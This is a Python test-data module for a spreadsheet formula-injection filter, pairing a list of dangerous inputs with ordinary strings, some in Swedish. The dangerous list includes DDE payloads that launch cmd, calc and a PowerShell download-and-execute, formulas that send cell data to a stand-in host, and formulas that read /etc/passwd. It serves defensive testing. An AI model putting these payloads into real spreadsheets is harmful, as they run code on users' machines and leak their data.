"""What somebody may type so that a colleague's spreadsheet calculates it. Add, never take away."""

#: Formulas as they are typed, and behind what spreadsheets look past.
EVIL = (
    "=1+1", "=2+5", "==2+5", "+2+5", "-2+5", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "=", "+", "-", "@",
    "-5", "+46",
    "=cmd|' /C calc'!A0", "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0", "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe'!''",
    '=HYPERLINK("http://x.example?leak="&A1,"Klicka")', '=WEBSERVICE("http://x.example/"&A1)',
    '=IMPORTXML(CONCAT("http://x.example?v=",A1),"//a")', '=IMPORTDATA("http://x.example")',
    '=IMAGE("http://x.example/a.png")', "=DDE(\"soffice\";\"/etc/passwd\";\"x\")",
    "='file:///etc/passwd'#$x.A1",
    "=SUMMA(A1:A9)", "{=1+1}"[1:], "=1+1;=2+2", "=1+1\r\n=2+2", "@A1", "-A1", "+A1", "=A1&B1", "=1\x00+1",
    "\t=1+1", "\t", "\tord", "\r=1+1", "\rord", "\n=1+1", "\r\n=1+1", " =1+1", "    @SUM(1)", "  =1+1",
    " \t =1+1",
    "\u00a0=1+1", "\u2003+1", "\u3000=1+1", "\u200b=1+1", "\ufeff=1+1", "\u200e=1+1", "\u202e=1+1",
    "\u00ad=1+1",
    "\u2060@x", "\x00=1+1", "\x01=1+1", "\x0b=1+1", "\x0c=1+1", "\x1f=1+1", "\x7f=1+1", "\x85=1+1",
    "\ufffe=1+1",
    '"=1+1', '"=1+1"', '""=1+1', ' "=1+1', "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", " ＝1+1", "\u200b＠x",
    "﹦1+1", "﹢1", "﹣1", "﹫x", "⁼1+1", "⁺1", "₊1", "⁻1+1", "−5", "−1+1",
)  # fmt: skip

#: Words like any others, which stay as they are.
HARMLESS = (
    "Hur ska Malmparken utvecklas?", "Väg 267 – etapp 2", "a=b", "1-2-3", "förskola@", "5 + 5", "År 2026",
    "'Torget'", "\"Torget\"", "Ö", "(=)", "#REF!", "#N/A", "TRUE", "1e5", "007", "2014/0066 KS.030", "%",
    "|x",
)  # fmt: skip
